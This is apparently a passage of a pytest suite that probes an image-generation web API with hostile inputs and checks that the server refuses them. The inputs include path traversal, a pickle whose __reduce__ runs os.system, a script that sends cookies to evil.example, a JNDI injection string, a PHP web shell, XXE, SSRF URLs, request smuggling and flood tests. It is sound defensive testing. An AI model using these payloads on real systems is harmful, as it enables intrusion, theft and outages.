"""What somebody sends who means harm: nothing leaves the folder, runs, leaks, or takes the server down."""

from __future__ import annotations

import csv
import io
import json
import os
import pickle
import random
import shutil
import socket
import struct
import threading
import time
import zipfile
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from PIL import Image

from materials.png import read_png, write_png
from tests.ui.api.conftest import Answer, Live, form, picture, serving
from ui.job_store import JobStore
from ui.queue import JobQueue

SECRET = "CANARY-7b1f"
MARK = Path("/tmp") / f"zellige-canary-{os.getpid()}"
"""Made by every payload that gets to run."""
NOBODY = "0" * 32


@pytest.fixture(autouse=True)
def unharmed(live: Live) -> Iterator[None]:
    """After every case: nothing beside the jobs' folder, nothing ran, and the server answers."""
    secret = live.out.parent / "secret.txt"
    secret.write_text(SECRET)
    beside = sorted(live.out.parent.iterdir())
    yield
    assert sorted(live.out.parent.iterdir()) == beside and secret.read_text() == SECRET
    assert not MARK.exists()
    assert live.ask("GET", "/healthz").json["status"] == "ok"


@pytest.fixture(scope="module")
def done(live: Live) -> str:
    """A finished job."""
    return live.wait(live.submit())["id"]


def refused(answer: Answer, *codes: int) -> None:
    """An error in this API's shape that tells nothing of the machine."""
    assert answer.status in (codes or (400, 404, 405, 413, 415, 422)), answer
    assert answer.headers["content-type"] == "application/json"
    assert set(answer.json["error"]) == {"message", "type", "code", "param"}
    told = answer.body.decode()
    assert not [word for word in (SECRET, "root:", "Traceback", "/tmp", "site-packages", ".py") if word in told]


# names and ids ---------------------------------------------------------------------------------------------------

NAMES = [
    "../../secret.txt", "..%2f..%2fsecret.txt", "%2e%2e/%2e%2e/secret.txt", "%252e%252e%252fsecret.txt",
    "....//secret.txt", "..\\..\\secret.txt", "..%5c..%5csecret.txt", "/etc/passwd", "//etc/passwd",
    "%2fetc%2fpasswd", "file:///etc/passwd", "basecolor.png/../../../secret.txt", "basecolor.png%00.txt", "%00",
    "./basecolor.png", "BASECOLOR.PNG", "basecolor.png/", "basecolor.png%20", "~/.bashrc",
    "..%c0%af..%c0%afsecret.txt", "%u002e%u002e/secret.txt", ".serve.lock", "../.serve.lock", "CON",
    "C:%5cwindows%5cwin.ini", "a" * 5000, "%e2%80%a5/secret.txt", "%ff%fe", "*", "basecolor.png;x",
    "0000/basecolor.png",
]  # fmt: skip


@pytest.mark.parametrize("name", NAMES)
def test_file_names_lead_nowhere_else(live: Live, done: str, name: str) -> None:
    refused(live.ask("GET", f"/v1/jobs/{done}/files/{name}"), 400, 404)


@pytest.mark.parametrize("route", ["", "/files", "/zip", "/events", "/files/basecolor.png"])
@pytest.mark.parametrize(
    "id", [
        "..", "%2e%2e", "..%2f..", NOBODY[:-1], NOBODY + "0", NOBODY, "F" * 32, "%d9%a0" * 32, NOBODY + "%0a",
        NOBODY + "%00", "%2fetc", "-1", "null", "'%20or%201=1--", "{id}", "%24(id)",
    ],
)  # fmt: skip
def test_ids_lead_nowhere_else(live: Live, id: str, route: str) -> None:
    refused(live.ask("GET", f"/v1/jobs/{id}{route}"), 404, 405, 422)


@pytest.mark.parametrize("id", ["..", "%2e%2e%2fsecret.txt", "*", "secret.txt", NOBODY])
def test_ids_delete_and_stop_nothing_else(live: Live, id: str) -> None:
    before = sorted(live.out.iterdir())
    refused(live.ask("DELETE", f"/v1/jobs/{id}"), 404, 405, 422)
    refused(live.ask("POST", f"/v1/jobs/{id}/cancel"), 404, 405, 422)
    assert sorted(live.out.iterdir()) == before


@pytest.mark.parametrize("path", [
    "//etc/passwd", "/../../secret.txt", "/v1/../../secret.txt", "/.env", "/.git/config", "/docs", "/redoc",
    "/static/../secret.txt", "/v1/jobs/", "/%2e%2e/%2e%2e/etc/passwd", "http://evil.example/", "*",
    "/v1/score/../../x", "/openapi.json/../x",
])  # fmt: skip
def test_other_paths_are_not_there(live: Live, path: str) -> None:
    refused(live.ask("GET", path), 403, 404, 405)


# what lies in the folder -----------------------------------------------------------------------------------------


def _link_file(folder: Path, secret: Path) -> None:
    (folder / "basecolor.png").unlink()
    (folder / "basecolor.png").symlink_to(secret)


def _link_folder(folder: Path, secret: Path) -> None:
    copy = secret.parent / "copy"
    shutil.copytree(folder, copy)
    (copy / "basecolor.png").write_text(SECRET)
    shutil.rmtree(folder)
    folder.symlink_to(copy)


def _fifo(folder: Path, secret: Path) -> None:
    (folder / "basecolor.png").unlink()
    os.mkfifo(folder / "basecolor.png")


def _folder(folder: Path, secret: Path) -> None:
    (folder / "basecolor.png").unlink()
    (folder / "basecolor.png").mkdir()


def _device(folder: Path, secret: Path) -> None:
    (folder / "basecolor.png").unlink()
    (folder / "basecolor.png").symlink_to("/dev/zero")


def _loop(folder: Path, secret: Path) -> None:
    (folder / "basecolor.png").unlink()
    (folder / "basecolor.png").symlink_to("basecolor.png")


def _gone(folder: Path, secret: Path) -> None:
    shutil.rmtree(folder)


@pytest.mark.parametrize("change", [_link_file, _link_folder, _fifo, _folder, _device, _loop, _gone])
def test_links_and_odd_files_in_a_result_are_not_followed(live: Live, tmp_path: Path, change: Any) -> None:
    (tmp_path / "secret.txt").write_text(SECRET)
    with serving(tmp_path / "jobs") as other:
        id = other.wait(other.submit())["id"]
        change(tmp_path / "jobs" / id, tmp_path / "secret.txt")
        refused(other.ask("GET", f"/v1/jobs/{id}/files/basecolor.png"), 404)
        with other.raw() as connection:
            connection.sendall(
                f"GET /v1/jobs/{id}/zip HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n".encode()
            )
            assert SECRET.encode() not in read_all(connection)
        assert other.ask("DELETE", f"/v1/jobs/{id}").status == 204
    assert (tmp_path / "secret.txt").read_text() == SECRET  # a link goes, what it leads to stays


def _record(id: str, **values: Any) -> dict[str, Any]:
    return {"id": id, "state": "done", "created": 1.0, "started": 1.0, "finished": 2.0, "sample": 0, "step": 1,
            "steps": 1, "error": None, "files": {"a.png": 3}, "request": {"prompt": "oak"}} | values  # fmt: skip


@pytest.mark.parametrize(
    "record",
    [
        _record(NOBODY, files={"../../secret.txt": 3}), _record(NOBODY, files={"/etc/passwd": 3}),
        _record("../" + NOBODY), _record("1" * 32), _record(NOBODY, state="running"), _record(NOBODY, files=[1]),
        _record(NOBODY, request={"prompt": 1}), _record(NOBODY, request={"prompt": "x", "lock": {"basecolor": 1}}),
        _record(NOBODY, finished="x"), _record(NOBODY, more=1), _record(NOBODY, files={"a/../../x": 1}),
        _record(NOBODY, files={"a\\b": 1}), "[" * 100_000, "\x00\xff", [], None,
    ],
)  # fmt: skip
def test_forged_records_are_left_out(tmp_path: Path, record: Any) -> None:
    text = record if isinstance(record, str) else json.dumps(record)
    (tmp_path / f"{NOBODY}.json").write_text(text, encoding="latin-1")
    store = JobStore(tmp_path)
    try:
        assert store.load() == []
    finally:
        store.close()


def test_what_others_keep_in_the_folder_stays(tmp_path: Path) -> None:
    (tmp_path / "target").mkdir()
    (tmp_path / "target" / "file").write_text("mine")
    jobs = tmp_path / "jobs"
    jobs.mkdir()
    (jobs / ("a" * 32)).symlink_to(tmp_path / "target")
    (jobs / ("b" * 32 + ".json")).symlink_to(tmp_path / "target" / "file")
    (jobs / "notes.txt").write_text("mine")
    (jobs / ("c" * 32)).mkdir()  # what a killed run left
    store = JobStore(jobs)
    assert store.load() == []
    store.close()
    assert (tmp_path / "target" / "file").read_text() == (jobs / "notes.txt").read_text() == "mine"
    assert not (jobs / ("c" * 32)).exists() and not (jobs / ("a" * 32)).is_symlink()


# images ----------------------------------------------------------------------------------------------------------


def chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png(width: int, height: int, *more: bytes, data: bytes = b"", depth: int = 8, colour: int = 2) -> bytes:
    head = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0)
    parts = [chunk(b"IHDR", head), *more, chunk(b"IDAT", data), chunk(b"IEND", b"")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(parts)


def deflated(megabytes: int) -> bytes:
    packer = zlib.compressobj(9)
    return b"".join([*(packer.compress(bytes(10**6)) for _ in range(megabytes)), packer.flush()])


def saved(kind: str, **options: Any) -> bytes:
    buffer = io.BytesIO()
    Image.fromarray(np.zeros((8, 8, 3), np.uint8)).save(buffer, kind, **options)
    return buffer.getvalue()


def frames(kind: str) -> bytes:
    buffer = io.BytesIO()
    more = [Image.fromarray(np.full((8, 8, 3), 60 * i, np.uint8)) for i in range(1, 4)]
    Image.fromarray(np.zeros((8, 8, 3), np.uint8)).save(buffer, kind, save_all=True, append_images=more)
    return buffer.getvalue()


class Payload:
    def __reduce__(self) -> tuple[Any, ...]:
        return os.system, (f"touch {MARK}",)


def zipped() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("../../evil.png", "x")
    return buffer.getvalue()


SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><image href="file:///etc/passwd"/></svg>'
HTML = b"<!doctype html><script>fetch('//evil.example/'+document.cookie)</script>"
XXE = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><svg>&e;</svg>'
EPS = b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(touch " + str(MARK).encode() + b") system\n"
NO_IMAGES: dict[str, Callable[[], bytes]] = {
    "svg": lambda: SVG,
    "html": lambda: HTML,
    "external entity": lambda: XXE,
    "postscript": lambda: EPS,
    "pdf": lambda: b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript>>>>",
    "zip": zipped,
    "pickle": lambda: pickle.dumps(Payload()),
    "imagemagick": lambda: b'push graphic-context\nfill url(https://evil.example/x"|touch x")\npop graphic-context',
    "gif": lambda: saved("GIF"),
    "gif and script": lambda: b"GIF89a/*" + bytes(20) + b"*/=1;alert(1)",
    "bmp": lambda: saved("BMP"),
    "tiff": lambda: saved("TIFF"),
    "ico": lambda: saved("ICO"),
    "ppm": lambda: saved("PPM"),
    "tga": lambda: saved("TGA"),
    "dds": lambda: saved("DDS"),
    "elf": lambda: b"\x7fELF" + bytes(200),
    "fits bomb": lambda: b"SIMPLE  =                    T".ljust(80) + b"NAXIS   = 2".ljust(80) + bytes(2720),
    "declared 60000x60000": lambda: png(60_000, 60_000, data=zlib.compress(b"")),
    "declared 2^31": lambda: png(2**31 - 1, 2**31 - 1, data=zlib.compress(b"")),
    "declared 0x0": lambda: png(0, 0, data=zlib.compress(b"")),
    "257x256": lambda: png(257, 256, data=zlib.compress(bytes((1 + 257 * 3) * 256))),
    "compressed text": lambda: png(8, 8, chunk(b"zTXt", b"k\0\0" + deflated(300)), data=zlib.compress(bytes(25 * 8))),
    "compressed i18n text": lambda: png(8, 8, chunk(b"iTXt", b"k\0\1\0\0\0" + deflated(300)),
                                        data=zlib.compress(bytes(200))),
    "too many texts": lambda: png(8, 8, *[chunk(b"zTXt", b"k\0\0" + deflated(1))] * 90,
                                  data=zlib.compress(bytes(25 * 8))),
    "jpeg 65000x65000": lambda: saved("JPEG").replace(b"\x00\x08\x00\x08\x03", b"\xfd\xe8\xfd\xe8\x03", 1),
    "webp 16383x16383": lambda: b"RIFF\x30\0\0\0WEBPVP8X\x0a\0\0\0\0\0\0\0\xfe\x3f\0\xfe\x3f\0" + bytes(20),
    "animated png": lambda: frames("PNG"),
    "animated webp": lambda: frames("WEBP"),
    "half a png": lambda: picture()[: len(picture()) // 2],
    "half a jpeg": lambda: picture(64, "JPEG")[:600],
    "half a webp": lambda: picture(64, "WEBP")[:600],
    "nothing": lambda: b"",
    "one byte": lambda: b"\x89",
    "wrong checksum": lambda: picture().replace(b"IDAT", b"IDAT", 1)[:-40] + bytes(40),
    "signature alone": lambda: b"\x89PNG\r\n\x1a\n",
    "chunk of 2^31": lambda: b"\x89PNG\r\n\x1a\n\x7f\xff\xff\xffIHDR" + bytes(30),
}  # fmt: skip


@pytest.mark.parametrize("kind", NO_IMAGES)
def test_what_is_no_image_here_has_no_score(live: Live, kind: str) -> None:
    began = time.monotonic()
    answer = live.upload((f"{kind}.png", NO_IMAGES[kind]()), ("good.png", picture()))
    bad, good = answer.json["results"]
    assert answer.status == 200 and bad["error"].startswith("Expected") and "score" not in bad
    assert "score" in good and time.monotonic() - began < 60
    assert "/etc" not in bad["error"] and "Traceback" not in bad["error"]


@pytest.mark.parametrize("seed", range(8))
def test_noise_that_starts_like_an_image(live: Live, seed: int) -> None:
    noise = random.Random(seed)
    heads = (
        b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x20\0\0\0\x20\x08\x02\0\0\0",
        b"\xff\xd8\xff\xe0",
        b"RIFF\x90\0\0\0WEBPVP8 ",
    )
    files = [(f"{i}.png", head + noise.randbytes(200)) for i, head in enumerate(heads)]
    damaged = bytearray(picture(64, "JPEG"))
    for _ in range(20):
        damaged[noise.randrange(len(damaged))] = noise.randrange(256)
    answer = live.upload(*files, ("damaged.jpg", bytes(damaged)))
    assert answer.status == 200 and len(answer.json["results"]) == 4
    assert all("error" in each for each in answer.json["results"][:3])


@pytest.mark.parametrize("tail", [HTML, SVG, b"PK\x03\x04", b"<?php system($_GET[1]); ?>", b"\xff\xd8\xff"])
def test_polyglots_are_scored_and_never_given_back(live: Live, tail: bytes) -> None:
    answer = live.upload(("both.png", picture() + tail))
    assert "score" in answer.json["results"][0] and tail not in answer.body
    assert (
        answer.headers["content-type"] == "application/json" and answer.headers["x-content-type-options"] == "nosniff"
    )


@pytest.mark.parametrize(
    "text",
    ["<script>alert(1)</script>", "oak\nSteps: 1, Seed: 9, Size: 9x9, Model: /etc/passwd", '{"model": "/etc/passwd"}',
     "=cmd|' /C calc'!A0", "\0\0", "x" * 10**6, '{"request": {"lock": {"basecolor": "/etc/passwd"}}}'],
)  # fmt: skip
def test_forged_metadata_changes_nothing(live: Live, tmp_path: Path, text: str) -> None:
    pixels = np.random.default_rng(0).integers(0, 256, (3, 32, 32), dtype=np.uint8)
    plain = write_png(tmp_path / "plain.png", pixels, colour="srgb").read_bytes()
    told: dict[str, str] = dict.fromkeys(("parameters", "zellige", "prompt", "workflow", "XML:com.adobe.xmp"), text)
    forged = write_png(tmp_path / "forged.png", pixels, colour="srgb", text=told).read_bytes()
    first, second = live.upload(("a", plain), ("b", forged)).json["results"]
    assert second.get("score") == first["score"] or "error" in second
    assert text[:40] not in json.dumps(second)


# names of uploads ------------------------------------------------------------------------------------------------

UPLOADS = [
    "../../evil.png", "..\\..\\evil.png", "/etc/cron.d/evil", "C:\\evil.png", "evil.png\x00.exe", "a\rb",
    "<script>alert(1)</script>.png", "\u202egnp.exe", "ａ．ｐｎｇ", "a" * 3000, "", ".", "..", "CON.png", "苔.png",
    "\u0000", "%2e%2e%2fevil.png", "`id`.png", "$(id).png", "=HYPERLINK(1).png", "+1+1", "-2+3", "@SUM(1)", "\t=1",
    "=cmd|' -C calc'!A0", "|calc", "%0a=1", " =1", "a,b\";=1",
]  # fmt: skip


@pytest.mark.parametrize("name", UPLOADS)
def test_names_of_uploads_are_only_shown(live: Live, name: str) -> None:
    sent = name.replace('"', "%22")
    answer = live.upload((sent, b"no image"))
    refused_form = answer.status == 400
    if not refused_form:
        (result,) = answer.json["results"]
        shown = result["name"]
        assert shown.isprintable() and 0 < len(shown) <= 200 and not {"/", "\\"} & {*shown}
        table = live.upload((sent, b"no image"), Accept="text/csv")
        (row,) = csv.DictReader(io.StringIO(table.body.decode()))
        assert row["name"].lstrip()[:1] not in ("=", "+", "-", "@", "|", "%", "\t", "\r")
        assert (
            table.headers["content-type"] == "text/csv; charset=utf-8"
            and "sandbox" in table.headers["content-security-policy"]
        )
    assert answer.headers["x-content-type-options"] == "nosniff"


# bodies ----------------------------------------------------------------------------------------------------------


def read_all(connection: socket.socket) -> bytes:
    parts = []
    try:
        while data := connection.recv(65536):
            parts.append(data)
    except ConnectionResetError:
        pass
    return b"".join(parts)


def exchange(live: Live, *parts: bytes, pause: float = 0.0) -> bytes:
    """Send the parts, then read until the server closes; the client closes its half."""
    with live.raw() as connection:
        try:
            for part in parts:
                connection.sendall(part)
                time.sleep(pause)
            connection.shutdown(socket.SHUT_WR)
        except OSError:  # the server was done with us
            pass
        return read_all(connection)


def head(path: str, *lines: str, method: str = "POST") -> bytes:
    return "\r\n".join([f"{method} {path} HTTP/1.1", "Host: localhost", *lines, "", ""]).encode("latin-1")


@pytest.mark.parametrize("path", ["/v1/score", "/v1/jobs", "/v1/images/generations", "/healthz", "/nowhere"])
@pytest.mark.parametrize("length", [10 * 10**9, 2**63, 10**18])
def test_declared_bodies_of_gigabytes_are_refused_unread(live: Live, path: str, length: int) -> None:
    began = time.monotonic()
    with live.raw() as connection:
        connection.sendall(head(path, f"Content-Length: {length}", "Content-Type: multipart/form-data; boundary=x"))
        told = read_all(connection)
    assert told.startswith(b"HTTP/1.1 413 ") and b"connection: close" in told.lower()
    assert time.monotonic() - began < 25


@pytest.mark.parametrize(("path", "limit"), [("/v1/score", 32 * 2**20), ("/v1/jobs", 256 * 1024)])
def test_streams_without_an_end_are_cut_off(live: Live, path: str, limit: int) -> None:
    sent = 0
    with live.raw() as connection:
        kind = "multipart/form-data; boundary=x" if path == "/v1/score" else "application/json"
        connection.sendall(head(path, "Transfer-Encoding: chunked", f"Content-Type: {kind}"))
        start = b'--x\r\nContent-Disposition: form-data; name="files"; filename="a"\r\n\r\n'
        connection.sendall(b"%x\r\n%s\r\n" % (len(start), start))
        piece = b"10000\r\n" + bytes(65536) + b"\r\n"
        with pytest.raises(OSError):
            while sent < 4 * limit + 16 * 2**20:
                connection.sendall(piece)
                sent += 65536
    assert sent < 2 * limit + 16 * 2**20


@pytest.mark.parametrize("path", ["/v1/score", "/v1/jobs", "/v1/images/generations"])
def test_slow_bodies_are_given_up(tmp_path: Path, path: str) -> None:
    with serving(tmp_path, body_seconds=0.5) as live:
        began = time.monotonic()
        with live.raw() as connection:
            kind = "multipart/form-data; boundary=x" if path == "/v1/score" else "application/json"
            connection.sendall(head(path, "Content-Length: 1000", f"Content-Type: {kind}"))
            for byte in b"--x":
                connection.sendall(bytes([byte]))
                time.sleep(0.05)
            told = read_all(connection)
        assert told.startswith(b"HTTP/1.1 408 ") and b"within 0.5 seconds" in told
        assert time.monotonic() - began < 25
        assert live.app.state.service.pool.inside == 0


@pytest.mark.parametrize("said", [b"", b"GET / HT", b"GET /healthz HTTP/1.1\r\nHost: localhost\r\nX-Slow: "])
def test_connections_that_say_nothing_are_closed(live: Live, said: bytes, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("ui.api.server.HEAD_SECONDS", 0.3)
    began = time.monotonic()
    with live.raw() as connection:
        connection.sendall(said)
        assert read_all(connection) == b""
    assert time.monotonic() - began < 9


def test_a_kept_connection_that_starts_again_slowly_is_closed(live: Live, monkeypatch: pytest.MonkeyPatch) -> None:
    with live.raw() as connection:
        connection.sendall(head("/healthz", method="GET"))
        assert connection.recv(65536).startswith(b"HTTP/1.1 200")
        monkeypatch.setattr("ui.api.server.HEAD_SECONDS", 0.3)
        began = time.monotonic()
        connection.sendall(b"GET /healthz HT")
        assert b"HTTP/1.1" not in read_all(connection)
    assert time.monotonic() - began < 12


@pytest.mark.parametrize(
    "data",
    [
        b"\x00" * 100, b"\x16\x03\x01\x02\x00\x01\x00" + bytes(200), b"GET\r\n\r\n", b"GET / HTTP/9.9\r\n\r\n",
        b"SSH-2.0-x\r\n", b"GET / HTTP/1.1\r\n\r\n", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
        head("/v1/jobs", "Content-Length: -1"), head("/v1/jobs", "Content-Length: 5", "Content-Length: 6") + b"{}",
        head("/v1/jobs", "Content-Length: 0x10"), head("/v1/jobs", "Transfer-Encoding: chunked") + b"zz\r\n",
        head("/v1/jobs", "Transfer-Encoding: chunked, identity") + b"0\r\n\r\n",
        head("/v1/jobs", "X: " + "a" * 10**6), head("/v1/jobs", *["X: y"] * 20_000),
        head("/" + "a" * 10**5, method="GET"), head("/v1/jobs", "X : y"), head("/v1/jobs", "X: a\x00b"),
        b"GET / HTTP/1.1\nHost: localhost\n\n" + b"\xff" * 50,
    ],
)  # fmt: skip
def test_what_is_no_http_is_refused(live: Live, data: bytes) -> None:
    told = exchange(live, data)
    assert told == b"" or told.split(b" ", 2)[1][:1] == b"4"
    assert SECRET.encode() not in told


def test_a_second_request_cannot_hide_in_the_first(live: Live) -> None:
    inner = head("/v1/jobs/" + NOBODY, method="DELETE")
    told = exchange(
        live,
        head("/healthz", f"Content-Length: {len(inner)}", "Transfer-Encoding: chunked", method="GET")
        + b"0\r\n\r\n"
        + inner,
    )
    assert told.startswith(b"HTTP/1.1 4") or told.count(b"HTTP/1.1 ") <= 2
    assert b" 204 " not in told


# JSON ------------------------------------------------------------------------------------------------------------

BODIES = [
    b"", b"{", b"[]", b"null", b"1", b'"oak"', b"{}", b"[" * 100_000, b'{"prompt":' * 20_000, b"\xff\xfe{\0}\0",
    b"\xef\xbb\xbf{}", b'{"prompt": "\xff"}', b'{"prompt": "oak", "seed": ' + b"9" * 5000 + b"}",
    b'{"prompt": "oak", "seed": 1e999}', b'{"prompt": "oak", "scale": NaN}',
    b'{"prompt": "oak", "guidance": Infinity}', b'{"prompt": "a\\ud800b"}', b'{"prompt": "a\\u0000b"}',
    b'{"\\ud800": 1, "prompt": "oak"}', b"--x\r\n\r\n--x--", b"prompt=oak", b"<xml/>",
    b"!!python/object/apply:os.system [id]", b'{"prompt": "' + b"a" * 200_000 + b'"}',
]  # fmt: skip


@pytest.mark.parametrize("path", ["/v1/jobs", "/v1/images/generations"])
@pytest.mark.parametrize("place", range(len(BODIES)))
def test_what_is_no_request_is_refused(live: Live, path: str, place: int) -> None:
    before = len(live.app.state.service.queue.jobs())
    refused(live.ask("POST", path, BODIES[place], {"Content-Type": "application/json"}), 400, 422)
    assert len(live.app.state.service.queue.jobs()) == before


FIELDS: list[dict[str, Any]] = [
    {"pipeline": "x"}, {"custom_pipeline": "evil/repo"}, {"trust_remote_code": True}, {"__class__": "x"},
    {"out": "/etc"}, {"device": "cuda"}, {"overwrite": True}, {"id": "../x"}, {"kind": "upscale"},
    {"image": "file:///etc/passwd"}, {"image_url": "http://169.254.169.254/"},
    {"lock": {"basecolor": "/etc/passwd"}}, {"lock": {"basecolor": "http://evil.example/x.png"}},
    {"lock": {"normal": "../secret.txt"}}, {"lock": {"roughness": "secret.txt"}},
    {"lock": {"height": "file:///etc/passwd"}}, {"lock": {"basecolor": "#12345"}}, {"lock": {"roughness": 2}},
    {"lock": [["basecolor", "x"]]}, {"lock": {"__proto__": 1}}, {"lock": "x"}, {"size": "0x0"}, {"size": [512, 512]},
    {"size": "-1x5"}, {"size": "5"}, {"size": "1e3x1e3"}, {"size": "٥x٥"}, {"size": "8x8\n"}, {"seed": -1},
    {"seed": 2**63}, {"seed": True}, {"seed": "7"}, {"seed": 1.5}, {"count": 0}, {"count": 10**9}, {"count": True},
    {"steps": 0}, {"steps": 10**9}, {"guidance": -1}, {"guidance": "x"}, {"scale": 2}, {"seamless": "yx"},
    {"refine": 3}, {"refine": True},
    {"height_format": "../exr"}, {"strip_metadata": "yes"}, {"prompt": {"a": 1}}, {"prompt": ["oak"]},
    {"prompt": "\x1b[2J"}, {"prompt": " \u3000 "}, {"prompt": "x" * 2001}, {"model": ""}, {"model": 7},
    {"model": {"path": "/etc"}},
]  # fmt: skip


@pytest.mark.parametrize("values", FIELDS, ids=lambda values: json.dumps(values)[:40])
def test_fields_out_of_range_are_refused(live: Live, values: dict[str, Any]) -> None:
    before = len(live.pipeline.calls)
    body = json.dumps({"prompt": "oak", "size": "8x8"} | values).encode()
    refused(live.ask("POST", "/v1/jobs", body, {"Content-Type": "application/json"}), 413, 422)
    assert len(live.pipeline.calls) == before


@pytest.mark.parametrize("path", ["/v1/jobs", "/v1/images/generations"])
@pytest.mark.parametrize(
    "model",
    [
        "/etc/passwd", "../../secret.txt", "file:///etc/passwd", "http://169.254.169.254/latest/meta-data/",
        "https://evil.example/x.safetensors", "evil/repo", "hf://evil/repo", "//evil.example/share",
        "\\\\evil.example\\share", "zellige/../x", "zellige\u0000", "ZELLIGE", ".", "~",
    ],
)  # fmt: skip
def test_models_are_names_and_no_places(live: Live, path: str, model: str) -> None:
    before = len(live.pipeline.calls)
    answer = live.ask("POST", path, prompt="oak", size="8x8", model=model)
    refused(answer, 404)
    assert answer.json["error"]["code"] == "model_not_found" and len(live.pipeline.calls) == before


# prompts ---------------------------------------------------------------------------------------------------------

PROMPTS = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "{{7*7}}", "${jndi:ldap://evil.example/x}",
    "$(touch x)", "'; DROP TABLE jobs; --", "%s%n%x", "../../../etc/passwd",
    '<sd_cpp_extra_args>{"steps": 1}</sd_cpp_extra_args>', "=cmd|' /C calc'!A0", "\u202eoak\u2066", "苔むした壁 🧱",
    "data: x\n\nevent: done\nid: 5", "Negative prompt: x\nSteps: 1, Seed: 1, Size: 1x1", "]]><x/>", "\u2028\u2029",
]  # fmt: skip


@pytest.mark.parametrize("prompt", [p for p in PROMPTS if p.strip()])
def test_prompts_are_text(live: Live, prompt: str) -> None:
    job = live.wait(live.submit(prompt=prompt))
    assert job["state"] == "done" and job["request"]["prompt"] == prompt
    assert live.pipeline.calls[-1]["prompt"] == prompt and live.pipeline.calls[-1]["steps"] == 3
    told = live.ask("GET", f"/v1/jobs/{job['id']}/events")
    assert told.headers["content-type"].startswith("text/event-stream")
    assert [line for line in told.body.decode().split("\n") if line.startswith("event:")] == ["event: done"]
    text = read_png(live.out / job["id"] / "basecolor.png").text
    assert json.loads(text["zellige"])["request"]["prompt"] == prompt
    assert text["parameters"].count("\n") == 1


# weights ---------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("part", ["unet/diffusion_pytorch_model", "vae/diffusion_pytorch_model", "text_encoder/model"])
@pytest.mark.parametrize("form_of", ["renamed", "bin"])
def test_pickles_are_not_loaded_as_weights(tmp_path: Path, part: str, form_of: str) -> None:
    from tests.tiny import checkpoint
    from ui.jobs import _load

    folder = checkpoint(tmp_path / "model")
    (folder / f"{part}.safetensors").unlink()
    name = {"renamed": f"{part}.safetensors", "bin": f"{part.replace('/model', '/pytorch_model')}.bin"}[form_of]
    (folder / name).write_bytes(pickle.dumps(Payload()))
    store = JobStore(tmp_path / "jobs")
    queue = JobQueue(store, lambda _name: _load(str(folder), "cpu"))
    try:
        from ui.request import Request

        id = queue.submit(Request(prompt="red brick", size=(64, 64), steps=1, model="mine")).id
        while (job := queue.get(id)) is not None and job.active:
            time.sleep(0.05)
        assert job is not None and job.state == "failed" and "Expected a material checkpoint" in str(job.error)
    finally:
        queue.close()
    assert not MARK.exists()


# floods ----------------------------------------------------------------------------------------------------------


def test_a_flood_of_requests_is_held_at_the_rate(tmp_path: Path) -> None:
    with serving(tmp_path, rate=20.0) as live:
        found: list[int] = []
        began = time.monotonic()
        threads = [
            threading.Thread(
                target=lambda: found.extend(live.ask("GET", f"/v1/jobs/{NOBODY}").status for _ in range(25))
            )
            for _ in range(8)
        ]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join(300)
        seconds = time.monotonic() - began
        assert len(found) == 200 and set(found) <= {404, 429}
        assert found.count(404) <= 40 + 20 * seconds + 1
        assert live.ask("GET", "/healthz").status == 200


def test_idle_connections_leave_room(live: Live) -> None:
    idle = [live.raw() for _ in range(200)]
    try:
        assert live.ask("GET", "/healthz").status == 200
    finally:
        for connection in idle:
            connection.close()


def test_followers_are_limited(tmp_path: Path) -> None:
    with serving(tmp_path, max_streams=3) as live:
        live.pipeline.gate.clear()
        id = live.submit()
        followers = []
        for _ in range(3):
            connection = live.raw()
            connection.sendall(head(f"/v1/jobs/{id}/events", method="GET"))
            assert connection.recv(15) == b"HTTP/1.1 200 OK"
            followers.append(connection)
        answer = live.ask("GET", f"/v1/jobs/{id}/events")
        refused(answer, 429)
        for connection in followers:
            connection.close()
        live.pipeline.gate.set()
        live.wait(id)
        for _ in range(100):
            if live.app.state.service.streams == 0:
                break
            time.sleep(0.05)
        assert live.ask("GET", f"/v1/jobs/{id}/events").status == 200


def test_a_flood_of_jobs_fills_the_queue_and_nothing_more(tmp_path: Path) -> None:
    with serving(tmp_path, max_queue=5) as live:
        live.pipeline.gate.clear()
        threads = threading.active_count()
        found = [live.ask("POST", "/v1/jobs", prompt="oak", size="8x8").status for _ in range(60)]
        assert found.count(202) in (5, 6) and found.count(429) == 60 - found.count(202)
        assert threading.active_count() <= threads + 2
        assert len(live.app.state.service.queue.jobs()) <= 6


def test_made_up_methods_and_paths_add_no_figures(live: Live) -> None:
    before = len(live.ask("GET", "/metrics").body.splitlines())
    for i in range(30):
        live.ask(f"X{i}", f"/p{i}")
    assert len(live.ask("GET", "/metrics").body.splitlines()) <= before + 40
    assert "X7" not in live.ask("GET", "/metrics").body.decode()


@pytest.mark.parametrize("count", [1000, 5000])
def test_forms_of_a_thousand_parts(live: Live, count: int) -> None:
    body, kind = form(*[("a.png", b"")] * count)
    refused(live.ask("POST", "/v1/score", body, {"Content-Type": kind}), 413)


@pytest.mark.parametrize(
    ("body", "kind"),
    [
        (b"--x\r\n", "multipart/form-data; boundary=x"), (b"", "multipart/form-data"), (b"",
        "multipart/form-data; boundary="),
        (b"x" * 1000, "multipart/form-data; boundary=x"),
        (b"--x\r\nContent-Disposition: form-data\r\n\r\nx\r\n--x--\r\n", "multipart/form-data; boundary=x"),
        (b"--x\r\n" + b"A: b\r\n" * 20_000 + b"\r\n\r\n--x--\r\n", "multipart/form-data; boundary=x"),
